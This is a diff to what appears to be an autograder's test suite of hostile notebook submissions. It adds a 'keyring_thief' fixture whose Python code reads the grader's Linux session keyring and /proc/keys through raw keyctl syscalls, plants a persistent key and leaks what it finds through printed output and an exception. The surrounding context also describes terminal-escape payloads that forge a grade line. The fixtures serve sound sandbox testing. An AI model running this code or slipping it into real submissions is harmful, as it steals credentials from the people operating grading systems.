@@ -51,6 +51,10 @@ into an import cell and one cell per function, and then does one hostile thing:
                           what ``sigmoid`` prints carry escapes that erase the instructor's line, print
                           "mallory: 23/23 [graded]", set the window title and write the clipboard
     ansi_nbformat         not a notebook: its ``nbformat`` field is that same terminal attack
+    keyring_thief         the reference, but a class body reads every key of the session keyring
+                          its worker started with (ctypes, syscall(keyctl)), raises what it found
+                          into the load notes, prints it, and leaves a key on its uid's keyring
+                          and looks for one an earlier worker left
     honest                the reference as a notebook: the test copies it under hostile file names
                           (terminal escapes; bytes that are not UTF-8), links to the course's
                           solution and leaves a FIFO beside it, none of which can be committed
@@ -1000,6 +1004,41 @@ class Forge:
     wire.write_frame = forged
 """
 
+KEYRING_THIEF = """\
+class KeyringThief:
+    # runs at load: the grader's login may keep a token in the session keyring, which every
+    # process it starts inherits; keys also outlive processes, on their uid's keyring
+    import ctypes, errno, platform, struct
+
+    NUMBERS = {"x86_64": (250, 248), "aarch64": (219, 217)}.get(platform.machine(), (250, 248))
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.syscall.restype = ctypes.c_long
+
+    def keyctl(*args, libc=libc, numbers=NUMBERS, ctypes=ctypes, errno=errno):
+        converted = [a if isinstance(a, (bytes, ctypes.Array)) else ctypes.c_long(a) for a in args]
+        result = libc.syscall(ctypes.c_long(numbers[0]), *converted)
+        return result if result >= 0 else errno.errorcode[ctypes.get_errno()]
+
+    def read(key, keyctl=keyctl, ctypes=ctypes):
+        buffer = ctypes.create_string_buffer(4096)
+        size = keyctl(11, key, buffer, 4096)  # KEYCTL_READ
+        return buffer.raw[: min(size, 4096)] if isinstance(size, int) else size
+
+    session = read(-3)  # the key ids of the session keyring
+    found = [session]
+    if not isinstance(session, str):
+        found = []
+        for key in struct.unpack(str(len(session) // 4) + "i", session):
+            found.append(read(key))
+    listed = open("/proc/keys").read().splitlines()
+    left = libc.syscall(ctypes.c_long(NUMBERS[1]), b"user", b"dlgrade-hostile-left-key", b"psst",
+                        ctypes.c_long(4), ctypes.c_long(-4))  # add_key on the uid's keyring
+    left = "EPERM" if left < 0 and ctypes.get_errno() == errno.EPERM else left
+    print("keyring_thief: session keyring:", found, "; /proc/keys:", listed, "; left a key:", left,
+          flush=True)
+    raise ValueError("keyring_thief found " + repr(found) + " " + repr(listed))
+"""
+
 ESCAPES_AT_LOAD = f"""\
 ATTACK = {TERMINAL_ATTACK!r}
 
@@ -1094,6 +1133,10 @@ def notebooks() -> dict[str, nbformat.NotebookNode]:
         "terminal_escapes": notebook(
             "Terminal escapes in a note, in `sign`'s exception and in what `sigmoid` prints.",
             reference_plus(ESCAPES_AT_LOAD, sign=SIGN_RAISES_ESCAPES, sigmoid=SIGMOID_PRINTS_ESCAPES),
+        ),
+        "keyring_thief": notebook(
+            "The reference, but a class body reads the grader's session keyring.",
+            [*reference_with(), KEYRING_THIEF],
         ),
         "honest": notebook("The reference, as a student hands it in.", reference_with()),
     }
